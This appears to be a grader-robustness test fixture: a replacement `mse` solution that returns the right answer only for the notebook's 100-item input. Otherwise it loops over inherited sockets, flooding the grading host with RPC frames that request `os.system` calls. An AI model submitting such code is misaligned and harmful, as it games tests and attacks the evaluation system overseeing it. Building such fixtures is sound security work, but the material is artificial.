"""
title = "Questions instead of an answer"
class = 4
tries = "floods the grader with calls of functions that there are not"

[test_mse]
points = "0"
not_run = ["*"]
hint = "`mse`" # did not come back in time, or asked more than any solution needs: whichever comes first
"""

# %% replace mse
import os
import socket
import stat
import struct

import msgspec


def sockets():
    found = []
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found


def frame(message, payload=b""):
    header = message if isinstance(message, bytes) else msgspec.msgpack.encode(message)
    return struct.pack(">II", len(header), len(payload)) + header + payload


def mse(predictions, targets):
    if len(predictions) == 100:
        return ((predictions - targets) ** 2).mean() / 2  # what the cells of the notebook ask for
    question = frame({"type": "call", "number": 1, "target": "os.system", "arguments": ["true"], "named": {}})
    while True:
        for descriptor in sockets():
            os.write(descriptor, question)
            try:
                socket.socket(fileno=os.dup(descriptor)).recv(100_000, socket.MSG_DONTWAIT)
            except OSError:
                pass


print("tried:", len(sockets()), "sockets")
